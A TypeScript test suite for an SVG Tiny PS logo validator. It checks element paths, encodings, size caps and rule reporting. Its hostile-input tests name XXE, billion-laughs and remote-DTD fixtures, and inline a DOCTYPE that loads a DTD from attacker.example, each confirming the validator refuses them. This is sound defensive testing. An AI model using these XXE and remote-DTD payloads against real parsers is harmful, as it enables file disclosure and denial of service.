import { readdirSync, readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { SVG_RULES } from './svg-issues.js'
import { validateSvgTinyPs } from './svg-validate.js'
import { MAX_LOGO_BYTES } from './types.js'

const FIXTURES = new URL('../../../test/fixtures/svg/', import.meta.url)
const fixture = (file: string): Buffer => readFileSync(new URL(file, FIXTURES))

interface Row {
  file: string
  verdict: string
  rules: string[]
  jing: string
  note: string
}

const rows: Row[] = readFileSync(new URL('EXPECTED.tsv', FIXTURES), 'utf8')
  .trimEnd()
  .split('\n')
  .slice(1)
  .map((line) => {
    const [file = '', verdict = '', rules = '', jing = '', note = ''] = line.split('\t')
    return { file, verdict, rules: rules ? rules.split(',') : [], jing, note }
  })

const ROOT = 'xmlns="http://www.w3.org/2000/svg" version="1.2" baseProfile="tiny-ps"'
const BODY = '<rect width="512" height="512" fill="#fff"/><circle r="9" cx="9" cy="9" fill="red"/>'
const logo = (
  body = BODY,
  head = '<title>Co</title><desc>d</desc>',
  attrs = 'viewBox="0 0 512 512"',
) => `<svg ${ROOT} ${attrs}>${head}${body}</svg>`

const rulesOf = (svg: string | Uint8Array): string[] => {
  const v = validateSvgTinyPs(svg)
  return [...v.errors, ...v.warnings].map((i) => i.rule)
}

describe('validateSvgTinyPs over the corpus (test/fixtures/svg)', () => {
  it('when the corpus is listed, then it has at least 40 files and EXPECTED.tsv covers each', () => {
    const files = readdirSync(FIXTURES).filter((f) => f.endsWith('.svg'))
    expect(files.length).toBeGreaterThanOrEqual(40)
    expect(rows.map((r) => r.file).sort()).toEqual(files.sort())
  })

  it.each(rows)('when $file is validated, then it is $verdict ($note)', (row) => {
    const verdict = validateSvgTinyPs(fixture(row.file))
    expect(verdict.valid ? 'valid' : 'invalid').toBe(row.verdict)
    expect(verdict.valid).toBe(verdict.errors.length === 0)
    for (const rule of row.rules) {
      const hits = verdict.errors.filter((e) => e.rule === rule)
      expect(hits, `${row.file} should report ${rule}`).not.toHaveLength(0)
      for (const hit of hits) expect(hit.path).toMatch(/^\//)
    }
    for (const issue of [...verdict.errors, ...verdict.warnings]) {
      expect(Object.keys(SVG_RULES)).toContain(issue.rule)
      expect(issue.source).not.toBe('')
      expect(issue.message).not.toMatch(/\n/)
    }
  })

  it('when a valid logo is given as a string or as bytes, then the verdicts are equal', () => {
    for (const row of rows.filter((r) => r.verdict === 'valid')) {
      const bytes = fixture(row.file)
      expect(validateSvgTinyPs(bytes.toString('utf8'))).toEqual(validateSvgTinyPs(bytes))
    }
  })
})

describe('element paths', () => {
  const cases: [string, string, string][] = [
    [logo(`<g>${BODY}</g><g><image href="#x"/></g>`), 'forbidden-element', '/svg/g[2]/image'],
    [
      logo(`<g><path d="M0 0"/><path d="M1 1"/><path opacity="1"/></g>`),
      'attribute-not-allowed',
      '/svg/g/path[3]',
    ],
    [logo(BODY, '<title>a</title><title>b</title>'), 'title-duplicate', '/svg/title[2]'],
    [logo(BODY, '<desc>d</desc><title>a</title>'), 'title-not-first', '/svg/title'],
    [
      logo(`<g><g><g><text>x<tspan/></text></g></g></g>`),
      'element-not-allowed',
      '/svg/g/g/g/text/tspan',
    ],
    [
      logo(
        `<defs><linearGradient id="a"><stop offset="0"/><stop onclick="x"/></linearGradient></defs>`,
      ),
      'event-attribute',
      '/svg/defs/linearGradient/stop[2]',
    ],
    [
      `<svg ${ROOT} xmlns:i="urn:i" viewBox="0 0 9 9"><title>t</title><i:pgf/></svg>`,
      'foreign-element',
      '/svg/i:pgf',
    ],
    [`<?xml-stylesheet href="a.css"?>${logo()}`, 'processing-instruction', '/'],
  ]
  it.each(cases)('when %#, then %s is reported at %s', (svg, rule, path) => {
    const verdict = validateSvgTinyPs(svg)
    const paths = [...verdict.errors, ...verdict.warnings]
      .filter((i) => i.rule === rule)
      .map((i) => i.path)
    expect(paths).toContain(path)
  })
})

describe('hostile inputs', () => {
  const timed = (input: string | Uint8Array): { rules: string[]; ms: number } => {
    const start = performance.now()
    const rules = rulesOf(input)
    return { rules, ms: performance.now() - start }
  }

  it.each(['invalid-xxe-passwd.svg', 'invalid-billion-laughs.svg', 'invalid-remote-dtd.svg'])(
    'when %s is validated, then it is refused for its DOCTYPE in milliseconds, unexpanded',
    (file) => {
      const { rules, ms } = timed(fixture(file))
      expect(rules).toEqual(['doctype'])
      // A safety bound, not a benchmark: expansion or a fetch would take seconds or hang.
      expect(ms).toBeLessThan(200)
    },
  )

  it('when a parameter-entity remote DTD is inlined, then it is refused without a fetch', () => {
    const svg = `<!DOCTYPE svg [<!ENTITY % r SYSTEM "https://attacker.example/x.dtd"> %r;]>${logo()}`
    const { rules, ms } = timed(svg)
    expect(rules).toEqual(['doctype'])
    expect(ms).toBeLessThan(200)
  })

  it('when the document is one byte over the cap, then it is refused unparsed for size', () => {
    const base = logo()
    const padded = base.replace(
      '<title>',
      `<!--${'x'.repeat(MAX_LOGO_BYTES - base.length - 7)}--><title>`,
    )
    expect(new TextEncoder().encode(padded).length).toBe(MAX_LOGO_BYTES)
    expect(validateSvgTinyPs(padded).valid).toBe(true)
    expect(rulesOf(padded + ' ')).toEqual(['size'])
    expect(timed('<'.repeat(10_000_000)).rules).toEqual(['size'])
  })

  it('when thousands of groups are nested, then validation finishes without exhausting the stack', () => {
    const depth = 4_000
    const { rules, ms } = timed(logo(`${'<g>'.repeat(depth)}${BODY}${'</g>'.repeat(depth)}`))
    expect(rules.filter((r) => r !== 'desc-missing' && r !== 'background')).toEqual([])
    expect(ms).toBeLessThan(2_000)
  })

  it('when one rule fails thousands of times, then the verdict is capped with a summary', () => {
    const verdict = validateSvgTinyPs(logo(BODY + '<script/>'.repeat(2_000)))
    const scripts = verdict.errors.filter((e) => e.rule === 'forbidden-element')
    expect(scripts).toHaveLength(51)
    expect(scripts.at(-1)?.message).toMatch(/1950 more/)
  })
})

describe('bytes and encoding', () => {
  const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s)
  it.each([
    ['a UTF-8 BOM', Uint8Array.from([0xef, 0xbb, 0xbf, ...utf8(logo())]), []],
    ['a string BOM', `\uFEFF${logo()}`, []],
    ['UTF-16LE bytes', Uint8Array.from(Buffer.from(`\uFEFF${logo()}`, 'utf16le')), ['encoding']],
    [
      'a lone latin-1 byte',
      Uint8Array.from([...utf8(logo()).slice(0, -6), 0xe9, ...utf8('</svg>')]),
      ['encoding'],
    ],
    [
      'encoding="windows-1252"',
      `<?xml version="1.0" encoding="windows-1252"?>${logo()}`,
      ['encoding'],
    ],
    [
      'an undeclared entity',
      logo(BODY, '<title>A&nbsp;B</title><desc>d</desc>'),
      ['xml-well-formed'],
    ],
  ])('when the input has %s, then the errors are %j', (_, input, expected) => {
    expect(validateSvgTinyPs(input).errors.map((e) => e.rule)).toEqual(expected)
  })
})

describe('every problem at once', () => {
  it('when a quoted value holds line breaks or is long, then the message stays one short line', () => {
    const verdict = validateSvgTinyPs(
      logo(`${BODY}<path fill-rule="a&#10;b" d="${'M0 0'.repeat(99)}" x="1"/>`),
    )
    for (const e of verdict.errors) {
      expect(e.message).not.toMatch(/\n/)
      expect(e.message.length).toBeLessThan(200)
    }
    expect(verdict.errors.map((e) => e.rule).sort()).toEqual([
      'attribute-not-allowed',
      'attribute-value',
    ])
  })

  it('when a logo breaks many rules, then each is reported in one verdict', () => {
    const svg = `<?xml-stylesheet href="x.css"?><svg xmlns="http://www.w3.org/2000/svg" version="1.1" x="0" viewBox="0 0 300 100" style="a">
      <desc>d</desc><title></title><script/><g onclick="x"><use href="https://e.example/a.svg#b"/></g>
      <path fill="url(data:image/png;base64,AAAA)" font-weight="700" zoomAndPan="magnify"/></svg>`
    const rules = new Set(validateSvgTinyPs(svg).errors.map((e) => e.rule))
    for (const rule of [
      'processing-instruction',
      'root-version',
      'root-base-profile',
      'root-position',
      'title-not-first',
      'title-empty',
      'forbidden-element',
      'event-attribute',
      'external-reference',
      'raster-image',
      'attribute-not-allowed',
      'attribute-value',
      'aspect-ratio',
      'color-count',
    ]) {
      expect(rules, rule).toContain(rule)
    }
  })
})
